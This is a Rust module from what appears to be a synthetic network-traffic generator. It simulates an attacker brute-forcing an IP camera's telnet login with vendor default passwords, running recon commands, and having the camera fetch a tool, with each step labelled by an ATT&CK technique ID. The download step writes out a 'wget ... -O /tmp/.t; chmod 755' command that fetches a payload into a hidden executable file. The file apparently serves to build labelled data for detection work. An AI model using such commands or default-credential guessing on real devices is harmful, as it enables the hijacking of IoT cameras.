//! The attacker at the camera's telnet server: guesses, commands, a tool.

use serde_json::json;

use super::Step;
use crate::story::cast::Cast;
use crate::story::city::World;
use crate::story::dice::Dice;
use crate::story::recorder::FrameId;
use crate::story::tcp::{Side, Tcp};
use crate::story::{MS, SECOND};

/// Failures after which the server hangs up.
const PATIENCE: usize = 3;

/// What the camera shows after a login.
const SHELLS: [&str; 3] = [
    "\r\n\r\nBusyBox v1.19.4 (2014-11-03 11:21:09 UTC) built-in shell (ash)\r\nEnter 'help' for a list of built-in commands.\r\n\r\n# ",
    "\r\nWelcome to the camera.\r\n\r\n~ # ",
    "\r\n\r\nBusyBox v1.12.1 (2013-06-18 09:40:55 CST) built-in shell (msh)\r\n\r\n# ",
];

/// The first commands and what they print.
const FIRST_COMMANDS: [(&str, &str); 2] = [
    (
        "cat /proc/version",
        "Linux version 3.0.8 (build@sdk) (gcc version 4.4.1) #1 Thu Nov 6 17:34:22 CST 2014\r\n# ",
    ),
    (
        "cat /proc/net/arp",
        "IP address       HW type     Flags       HW address            Mask     Device\r\n# ",
    ),
];

/// Guesses, then the vendor's default. Gives the open shell and the time.
pub(super) fn log_in(
    world: &mut World,
    cast: &Cast,
    at: i64,
    dice: &mut Dice,
    steps: &mut Vec<Step>,
) -> (Tcp, i64) {
    let villain = &cast.villain;
    let mut tries = villain.guesses.clone();
    tries.push((villain.user, villain.password));
    let (mut tcp, mut frames) = guess(world, cast, &tries, at, dice);
    tcp.send(world, Side::Server, dice.pick(&SHELLS).as_bytes());
    for (command, output) in FIRST_COMMANDS {
        let at = tcp.now + dice.within(2 * SECOND..=6 * SECOND);
        type_command(world, &mut tcp, at, command, output);
    }
    for _ in &tries {
        world.count("telnet_logins");
    }
    frames.extend(&tcp.frames);
    steps.push(Step {
        name: "login",
        what: "Somebody logs in to a camera by telnet with its vendor's default password".into(),
        from: villain.host,
        to: Some(villain.camera),
        technique: "T0812",
        frames,
        details: json!({
            "port": villain.telnet_port,
            "user": villain.user,
            "password_length": villain.password.len(),
            "attempts": tries.len(),
        }),
    });
    let now = tcp.now;
    (tcp, now)
}

/// Tries one pair after the other, in as many conversations as it takes; the last pair is right. Gives the
/// conversation where the server has yet to greet, and the frames of those before.
fn guess(
    world: &mut World,
    cast: &Cast,
    tries: &[(&str, &str)],
    at: i64,
    dice: &mut Dice,
) -> (Tcp, Vec<FrameId>) {
    let prompt = format!("{} login: ", world.host(cast.villain.camera).name);
    let mut frames = Vec::new();
    let mut tcp = greet(world, cast, &prompt, at, dice);
    for (n, (user, password)) in tries.iter().enumerate() {
        if n > 0 && n % PATIENCE == 0 {
            tcp.close(world, Side::Server);
            frames.append(&mut tcp.frames);
            let again = tcp.now + dice.within(SECOND..=5 * SECOND);
            tcp = greet(world, cast, &prompt, again, dice);
        }
        tcp.wait(world, dice.within(400 * MS..=1_500 * MS));
        tcp.send(world, Side::Client, format!("{user}\r\n").as_bytes());
        tcp.send(world, Side::Server, format!("{user}\r\nPassword: ").as_bytes());
        tcp.wait(world, dice.within(300 * MS..=1_200 * MS));
        world.secrets.insert((*password).to_owned());
        tcp.send(world, Side::Client, format!("{password}\r\n").as_bytes());
        if n + 1 < tries.len() {
            tcp.wait(world, dice.within(SECOND..=3 * SECOND));
            let more = if n % PATIENCE == PATIENCE - 1 { "" } else { &prompt };
            let refusal = format!("\r\nLogin incorrect\r\n{more}");
            tcp.send(world, Side::Server, refusal.as_bytes());
        }
    }
    (tcp, frames)
}

/// Opens the conversation: options (RFC 854, 857, 858, 1073), then the prompt.
fn greet(world: &mut World, cast: &Cast, prompt: &str, at: i64, dice: &mut Dice) -> Tcp {
    let villain = &cast.villain;
    let mut tcp = Tcp::open(world, villain.host, villain.camera, villain.telnet_port, at);
    tcp.send(
        world,
        Side::Server,
        b"\xff\xfd\x01\xff\xfd\x1f\xff\xfb\x01\xff\xfb\x03",
    );
    tcp.send(
        world,
        Side::Client,
        b"\xff\xfc\x01\xff\xfc\x1f\xff\xfd\x01\xff\xfd\x03",
    );
    tcp.wait(world, dice.within(30 * MS..=400 * MS));
    tcp.send(world, Side::Server, format!("\r\n{prompt}").as_bytes());
    tcp
}

/// A line that the attacker types at `at`; the echo and what it prints.
pub(super) fn type_command(world: &mut World, shell: &mut Tcp, at: i64, command: &str, output: &str) {
    let pause = at - shell.now;
    shell.wait(world, pause.max(0));
    shell.send(world, Side::Client, format!("{command}\r\n").as_bytes());
    shell.send(world, Side::Server, format!("{command}\r\n{output}").as_bytes());
}

/// What the camera prints at `at`.
pub(super) fn answer(world: &mut World, shell: &mut Tcp, at: i64, text: &str) {
    let pause = at - shell.now;
    shell.wait(world, pause.max(0));
    shell.send(world, Side::Server, text.as_bytes());
}

/// The camera fetches the attacker's tool over HTTP.
pub(super) fn download(
    world: &mut World,
    cast: &Cast,
    shell: &mut Tcp,
    at: i64,
    dice: &mut Dice,
    steps: &mut Vec<Step>,
) -> i64 {
    let villain = &cast.villain;
    let port = dice.pick(&[80, 8080, 8000]);
    let host = world.host(villain.host).ip;
    let path = dice.pick(&["/t", "/x/arm7", "/bins/cam"]);
    let at = at + dice.within(3 * SECOND..=8 * SECOND);
    type_command(
        world,
        shell,
        at,
        &format!("wget -O /tmp/.t http://{host}:{port}{path}; chmod 755 /tmp/.t"),
        "",
    );
    let mut tcp = Tcp::open(world, villain.camera, villain.host, port, shell.now + 20 * MS);
    let request = format!(
        "GET {path} HTTP/1.1\r\nHost: {host}:{port}\r\nUser-Agent: Wget\r\nConnection: close\r\n\r\n"
    );
    tcp.send(world, Side::Client, request.as_bytes());
    let size = dice.within(18_000..=34_000) as usize;
    let tool = dice.bytes(size);
    let head = format!(
        "HTTP/1.0 200 OK\r\nServer: SimpleHTTP/0.6 Python/3.11.2\r\nContent-type: application/octet-stream\r\nContent-Length: {}\r\n\r\n",
        tool.len()
    );
    tcp.send(world, Side::Server, &[head.as_bytes(), &tool].concat());
    tcp.close(world, Side::Server);
    world.count("http_requests");
    answer(world, shell, tcp.now + 100 * MS, "# ");
    steps.push(Step {
        name: "download",
        what: "The camera fetches the attacker's tool".into(),
        from: villain.camera,
        to: Some(villain.host),
        technique: "T0867",
        frames: tcp.frames,
        details: json!({ "port": port, "path": path, "bytes": tool.len() }),
    });
    shell.now
}
